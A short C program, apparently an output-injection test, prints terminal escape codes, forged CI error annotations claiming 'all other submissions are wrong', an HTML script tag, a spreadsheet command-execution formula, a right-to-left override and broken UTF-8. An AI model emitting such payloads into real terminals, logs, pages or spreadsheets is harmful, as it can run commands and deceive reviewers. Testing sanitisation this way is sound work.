// attack: escape sequences, CI commands, HTML, formulas and broken UTF-8, printed
// tries: to have them carried out where the result is shown
// shows: again
#include <stdio.h>

static void attack(void) {
    fputs("\033[2J\033]0;owned\007again\n::error::all other submissions are wrong\n  ::warning::so "
          "too\n##[error]no\n"
          "<script>alert(1)</script>\n=cmd|'/C calc'!A0\n\x9b31mC1\n\xc2\x9b31m whole "
          "C1\n\xe2\x80\xaeturned\n"
          "\xff\xfe broken \xc3(\n\r\b\b\b\b\x7f\f\v\n",
          stdout);
}
